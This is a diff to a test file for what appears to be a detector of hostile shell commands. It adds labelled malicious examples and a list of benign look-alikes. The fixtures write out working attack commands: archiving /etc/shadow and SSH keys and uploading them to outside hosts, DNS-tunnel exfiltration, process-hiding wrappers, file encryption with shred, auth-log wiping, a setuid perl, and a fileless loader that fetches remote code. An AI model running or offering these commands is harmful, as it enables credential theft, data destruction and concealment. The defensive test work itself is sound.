@@ -35,7 +35,16 @@ describe('tunnels that let somebody in', () => {
 
 describe('what leaves the host', () => {
 	test.each([
-		['tar cz /etc /root/.ssh | curl -s -T - http://203.0.113.9/u', 'medium data-sent'],
+		['tar cz /etc /root/.ssh | curl -s -T - http://203.0.113.9/u', 'high data-sent'],
+		['tar cz /srv/data | curl -s -T - http://203.0.113.9/u', 'medium data-sent'],
+		['tar cz /etc/shadow /home/*/.ssh 2>/dev/null | curl -s -F chat_id=-1 -F document=@- https://api.chat.example/bot1:A/sendDocument', 'high data-sent'],
+		['for f in /etc/shadow /root/.ssh/id_*; do gzip -c $f | xxd -p -c 28 | while read l; do dig +short $n.$l.q.ns.example.top >/dev/null; done; done', 'high data-sent'],
+		['ps() { command ps "$@" | command grep -v -e kdm -e x; }', 'high listing-cut'],
+		['/usr/bin/systemctl "$@" | sed \'/kdmpsync/d;/lpd/d\'', 'high listing-cut'],
+		['find /srv -type f -print0 | xargs -0 -I{} sh -c \'openssl enc -aes-256-ctr -in "{}" -out "{}.q" && shred -u "{}"\'', 'high files-encrypted'],
+		['/bin/sed -i "/203.0.113/d" /var/log/auth.log', 'high log-wiped'],
+		['chmod 4755 /usr/bin/perl5.36.0', 'high setuid-made'],
+		['perl -e \'my $f=syscall(319,"",1);print $h `curl -s http://203.0.113.7/m`;exec{"/proc/$$/fd/$f"}"[kworker]"\'', 'high decoded-run'],
 		['curl -s -F f=@/etc/shadow http://203.0.113.9/u', 'high data-sent'],
 		['curl --data-binary @/etc/shadow https://collect.example.net/u', 'medium data-sent'],
 		['wget --post-file=/root/.ssh/id_rsa http://203.0.113.9/', 'high data-sent'],
@@ -57,6 +66,12 @@ describe('what leaves the host', () => {
 	test.each([
 		['tar cz /home/ada | ssh nas "cat > a.tgz"'],
 		['cp -p /etc/shadow /var/backups/shadow.bak'],
+		['ps aux | grep -v root'],
+		['command ls "$@" | grep x'],
+		['sed -i s/a/b/ /var/log/app/own.log'],
+		['find /srv -name "*.tmp" -exec rm {} +'],
+		['openssl enc -aes-256-cbc -in a -out b'],
+		['dig +short $host.example.com'],
 		['cp /etc/ssh/ssh_host_rsa_key /srv/image/etc/ssh/'],
 		["trap 'logger -p local1.notice \"$USER $BASH_COMMAND\"' DEBUG"],
 		["trap 'rm -rf \"$work\"' EXIT"],
